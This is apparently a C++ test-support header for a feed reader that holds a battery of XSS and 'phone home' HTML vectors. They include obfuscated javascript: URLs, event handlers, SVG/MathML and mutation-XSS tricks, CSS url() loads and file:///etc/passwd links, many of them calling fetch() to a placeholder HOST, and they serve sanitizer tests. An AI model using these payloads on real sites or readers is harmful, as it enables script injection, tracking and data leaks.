#pragma once

// The XSS and "phone home" battery of issue 12 (point 5): hostile HTML as
// feed content and article pages carry it, written as data so the sanitizer
// test and the end-to-end reading-pane test run the same vectors.
//
// Every vector writes HOST where an origin goes; the tests put their own
// there (a name that resolves nowhere, or the local server that logs every
// request). The path of each URL says what it may become:
//   HOST/never/...  must vanish: it sits in a script, a style, a meta, a
//                   base, a form, a frame, an object, SVG or MathML, or an
//                   event handler. Never in the output, never requested.
//   HOST/img/...    a plain picture (img src, a lazy data-src, srcset, a
//                   picture's source, a video poster): it may be shown as an
//                   <img>, and fetched only once the reader allows images.
//                   Markup that browsers read as text but libxml2 as tags
//                   (an img in xmp, plaintext or a CDATA section, or after
//                   "--!>") counts as a plain picture: it is one to the
//                   sanitizer, and it stays behind the image permission.
//   HOST/link/...   a link target (a href, video or audio src made a link):
//                   it may be a link, never fetched by itself.

#include <QList>
#include <QString>

namespace TestSupport {

struct XssVector {
    const char *name;
    const char *html;
};

inline const QList<XssVector> &xssBattery()
{
    static const QList<XssVector> battery = {
        // Scripts, in every spelling.
        { "script", "<p>a</p><script src=\"HOST/never/s1.js\">alert(1)</script><p>b</p>" },
        { "script upper", "<SCRIPT SRC=HOST/never/s2.js></SCRIPT>" },
        { "script mixed case", "<ScRiPt>new Image().src='HOST/never/s3.png'</sCrIpT>" },
        { "script slash", "<script/src=\"HOST/never/s4.js\"></script>" },
        { "script double angle", "<<script>fetch('HOST/never/s5')//<</script>" },
        { "script unterminated", "<p>ok</p><script>fetch('HOST/never/s6')" },
        { "script in attribute breakout", "<img alt=\"\"\"><script src=HOST/never/s7.js></script>\">" },
        { "script type module", "<script type=module>import 'HOST/never/s8.js'</script>" },
        // Event handlers.
        { "img onerror", "<img src=x onerror=\"fetch('HOST/never/h1')\">" },
        { "img onerror tab", "<img src=\"HOST/img/h2.png\"\tONERROR\n=\"fetch('HOST/never/h2')\">" },
        { "body onload", "<body onload=\"fetch('HOST/never/h3')\"><p>x</p></body>" },
        { "a onmouseover", "<a href=\"HOST/link/h4\" onmouseover=\"fetch('HOST/never/h4')\">x</a>" },
        { "details ontoggle", "<details open ontoggle=\"fetch('HOST/never/h5')\"><summary>s</summary>t</details>" },
        { "input onfocus autofocus", "<input autofocus onfocus=\"fetch('HOST/never/h6')\">" },
        { "marquee onstart", "<marquee onstart=\"fetch('HOST/never/h7')\">m</marquee>" },
        { "video source onerror", "<video><source src=x onerror=\"fetch('HOST/never/h8')\"></video>" },
        // javascript:, vbscript: and data: URLs, plain and obfuscated.
        { "a javascript", "<a href=\"javascript:fetch('HOST/never/u1')\">x</a>" },
        { "a javascript case", "<a href=\"JaVaScRiPt:fetch('HOST/never/u2')\">x</a>" },
        { "a javascript entities",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;fetch('HOST/never/u3')\">x</a>" },
        { "a javascript hex no semicolon", "<a href=\"&#x6A&#x61vascript&#x3A;fetch('HOST/never/u4')\">x</a>" },
        { "a javascript tab entity", "<a href=\"jav&#x09;ascript:fetch('HOST/never/u5')\">x</a>" },
        { "a javascript newline entity", "<a href=\"jav&#x0A;ascript:fetch('HOST/never/u6')\">x</a>" },
        { "a javascript leading control", "<a href=\" &#14;  javascript:fetch('HOST/never/u7')\">x</a>" },
        { "a javascript colon entity", "<a href=\"javascript&colon;fetch('HOST/never/u8')\">x</a>" },
        { "a vbscript", "<a href=\"vbscript:msgbox('HOST/never/u9')\">x</a>" },
        { "a data html", "<a href=\"data:text/html,<script src=HOST/never/u10.js></script>\">x</a>" },
        { "a data html base64", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>" },
        { "a file", "<a href=\"file:///etc/passwd\">x</a>" },
        { "img javascript", "<img src=\"javascript:fetch('HOST/never/u11')\">" },
        { "img data svg", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "img data svg plain", "<img src=\"data:image/svg+xml,<svg><image href='HOST/never/u12.png'/></svg>\">" },
        { "img file", "<img src=\"file:///usr/share/pixmaps/debian-logo.png\">" },
        { "img vbscript", "<img src=\"vbscript:msgbox(1)\">" },
        { "img srcset javascript", "<img srcset=\"javascript:fetch('HOST/never/u13') 2x\">" },
        { "img lazy javascript", "<img data-src=\"javascript:fetch('HOST/never/u14')\">" },
        { "img dynsrc lowsrc", "<img dynsrc=\"HOST/never/u15.avi\" lowsrc=\"HOST/never/u16.png\">" },
        { "blockquote cite javascript", "<blockquote cite=\"javascript:fetch('HOST/never/u17')\">q</blockquote>" },
        { "video poster javascript",
            "<video src=\"HOST/link/u18.mp4\" poster=\"javascript:fetch('HOST/never/u18')\">" },
        { "button formaction", "<form><button formaction=\"HOST/never/u19\">go</button></form>" },
        { "isindex action", "<isindex action=\"HOST/never/u20\" type=image src=\"HOST/never/u20.png\">" },
        // SVG and MathML.
        { "svg onload", "<svg onload=\"fetch('HOST/never/v1')\"><circle r=1 /></svg>" },
        { "svg script", "<svg><script href=\"HOST/never/v2.js\">fetch('HOST/never/v2')</script></svg>" },
        { "svg a xlink", "<svg><a xlink:href=\"javascript:fetch('HOST/never/v3')\"><text>x</text></a></svg>" },
        { "svg animate href",
            "<svg><a><animate attributeName=href "
            "values=\"javascript:fetch('HOST/never/v4')\"/><text>x</text></a></svg>" },
        { "svg set", "<svg><set attributeName=onmouseover to=\"fetch('HOST/never/v5')\"/></svg>" },
        { "svg foreignObject",
            "<svg><foreignObject><iframe src=\"HOST/never/v6\"></iframe><img src=\"HOST/never/v6.png\">"
            "</foreignObject></svg>" },
        { "svg use", "<svg><use href=\"HOST/never/v7.svg#x\"/><use xlink:href=\"HOST/never/v7b.svg#x\"/></svg>" },
        { "svg image", "<svg><image href=\"HOST/never/v8.png\" xlink:href=\"HOST/never/v8b.png\"/></svg>" },
        { "svg style import", "<svg><style>@import url(HOST/never/v9.css);</style></svg>" },
        { "math href", "<math href=\"javascript:fetch('HOST/never/m1')\">CLICK</math>" },
        { "math maction",
            "<math><maction actiontype=statusline xlink:href=\"javascript:fetch('HOST/never/m2')\">"
            "<mtext>x</mtext><mtext>y</mtext></maction></math>" },
        { "math mxss", "<math><mtext><table><mglyph><style><img src=\"HOST/never/m3.png\" onerror=alert(1)>" },
        { "svg p style mxss", "<svg></p><style><a id=\"</style><img src=HOST/never/m4.png>\">" },
        // CSS.
        { "style expression", "<p style=\"width: expression(fetch('HOST/never/c1'))\">x</p>" },
        { "style url", "<div style=\"background:url(HOST/never/c2.png)\">x</div>" },
        { "style url escaped", "<div style=\"background-image:u\\rl(HOST/never/c3.png)\">x</div>" },
        { "style import", "<div style=\"@import 'HOST/never/c4.css'\">x</div>" },
        { "style behavior", "<xss style=\"behavior:url(HOST/never/c5.htc)\">x</xss>" },
        { "style element",
            "<style>@import 'HOST/never/c6.css'; body{background:url(HOST/never/c6.png)}</style><p>x</p>" },
        { "style list image", "<ul style=\"list-style-image:url(HOST/never/c7.png)\"><li>x</li></ul>" },
        { "link stylesheet", "<link rel=stylesheet href=\"HOST/never/c8.css\"><p>x</p>" },
        { "link preload",
            "<link rel=preload as=image href=\"HOST/never/c9.png\"><link rel=prefetch href=\"HOST/never/c9\">" },
        { "table background",
            "<table background=\"HOST/never/c10.png\"><tr><td background=\"HOST/never/c10b.png\">x</td></tr></table>" },
        { "body background", "<body background=\"HOST/never/c11.png\"><p>x</p></body>" },
        // Page plumbing.
        // A page's lead picture comes from its metadata; it obeys the body's rules.
        { "og:image file", "<meta property=\"og:image\" content=\"file:///usr/share/pixmaps/debian-logo.png\">" },
        { "og:image javascript", "<meta property=\"og:image\" content=\"javascript:fetch('HOST/never/o1')\">" },
        { "og:image under file base",
            "<base href=\"file:///usr/share/pixmaps/\"><meta property=\"og:image\" content=\"debian-logo.png\">" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=HOST/never/p1\"><p>x</p>" },
        { "meta refresh javascript", "<meta http-equiv=refresh content=\"0;url=javascript:fetch('HOST/never/p2')\">" },
        { "meta csp and set-cookie",
            "<meta http-equiv=\"Set-Cookie\" content=\"a=b\"><meta http-equiv=\"Link\" content=\"<HOST/never/p3.css>; "
            "rel=stylesheet\">" },
        { "base href javascript",
            "<base href=\"javascript:fetch('HOST/never/p4')//\"><a href=\"/link/rel\">r</a><img "
            "src=\"/img/rel.png\">" },
        { "base href file", "<base href=\"file:///etc/\"><a href=\"passwd\">r</a><img src=\"/img/pic.png\">" },
        { "form action",
            "<form action=\"HOST/never/p5\" method=post><input type=image src=\"HOST/never/p5.png\"><input "
            "type=submit></form>" },
        { "form javascript", "<form action=\"javascript:fetch('HOST/never/p6')\"><button>go</button></form>" },
        { "iframe", "<iframe src=\"HOST/never/f1\"></iframe>" },
        { "iframe srcdoc", "<iframe srcdoc=\"&lt;img src=HOST/never/f2.png&gt;\"></iframe>" },
        { "iframe javascript", "<iframe src=\"javascript:fetch('HOST/never/f3')\"></iframe>" },
        { "frameset", "<frameset onload=alert(1)><frame src=\"HOST/never/f4\"></frameset>" },
        { "object",
            "<object data=\"HOST/never/f5.swf\" type=application/x-shockwave-flash><param name=movie "
            "value=\"HOST/never/f5b.swf\"></object>" },
        { "object data html", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>" },
        { "embed", "<embed src=\"HOST/never/f6.swf\">" },
        { "applet", "<applet code=\"Evil.class\" codebase=\"HOST/never/f7/\">applet</applet>" },
        { "portal", "<portal src=\"HOST/never/f8\"></portal>" },
        { "audio track", "<audio src=\"HOST/link/a1.mp3\"><track src=\"HOST/never/a1.vtt\"></audio>" },
        { "bgsound", "<bgsound src=\"HOST/never/a2.mid\">" },
        // Broken markup, comments and CDATA.
        { "comment script", "<!--<script src=HOST/never/k1.js>--><p>x</p>" },
        { "comment conditional", "<!--[if gte IE 4]><script src=HOST/never/k2.js></script><![endif]-->" },
        { "comment breakout", "<!-- --!><img src=HOST/img/k3.png> -->" },
        { "cdata", "<![CDATA[<img src=HOST/img/k4.png>]]><p>x</p>" },
        { "unclosed tag", "<div <img src=HOST/never/k5.png>x</div>" },
        { "unterminated attribute", "<img src=\"HOST/img/k6.png onerror=alert(1)" },
        { "noscript mxss", "<noscript><p title=\"</noscript><img src=HOST/never/k7.png>\"></noscript>" },
        { "textarea", "<textarea><img src=HOST/never/k8.png></textarea>" },
        { "template", "<template><img src=HOST/never/k9.png></template>" },
        { "title element", "<title><img src=HOST/never/k10.png></title>" },
        { "xmp", "<xmp><img src=HOST/img/k11.png></xmp>" },
        { "plaintext", "<plaintext><img src=HOST/img/k12.png>" },
        { "nested quotes", "<a href=\"HOST/link/k13\" title='\"><img src=HOST/never/k13.png>'>x</a>" },
        { "replacement character and control",
            "<scr\xef\xbf\xbdipt>fetch('HOST/never/k14')</script><img src=\"java\x01script:alert(1)\">" },
        { "attribute quote splice",
            "<p title=\"x style='\">a</p><p>'\" src=HOST/never/k15.png style=background:url(HOST/never/k15b.png) b=</p>"
            "<img src=\"HOST/img/k15.png\" alt=\"y style='\"><p>'\" src=HOST/never/k15c.png x=</p>" },
        // What may stay, and must stay inert.
        { "plain image", "<p><img src=\"HOST/img/ok1.png\" alt=\"ok\" width=\"300\" height=\"200\"></p>" },
        { "lazy image", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" data-src=\"HOST/img/ok2.png\">" },
        { "srcset image", "<img srcset=\"HOST/img/ok3-small.png 300w, HOST/img/ok3-big.png 900w\">" },
        { "picture", "<picture><source srcset=\"HOST/img/ok4.webp\"><img src=\"HOST/img/ok4.png\"></picture>" },
        { "video poster", "<video src=\"HOST/link/ok5.mp4\" poster=\"HOST/img/ok5.png\" autoplay></video>" },
        { "protocol relative image", "<img src=\"//HOSTNAME/img/ok6.png\">" },
        { "relative image under http base",
            "<base href=\"HOST/img/base/\"><img src=\"ok7.png\"><a href=\"page\">p</a>" },
        { "link", "<a href=\"HOST/link/ok8\" target=_blank>a link</a>" },
        { "tracking pixel", "<img src=\"HOST/never/pixel.gif\" width=1 height=1>" },
    };
    return battery;
}

// A vector with HOST (and HOSTNAME, HOST without its scheme) filled in.
inline QString xssVectorHtml(const XssVector &vector, const QString &origin)
{
    QString html = QString::fromUtf8(vector.html);
    QString hostName = origin;
    hostName.remove(QStringLiteral("http://")).remove(QStringLiteral("https://"));
    html.replace(QStringLiteral("HOSTNAME"), hostName);
    html.replace(QStringLiteral("HOST"), origin);
    return html;
}

} // namespace TestSupport
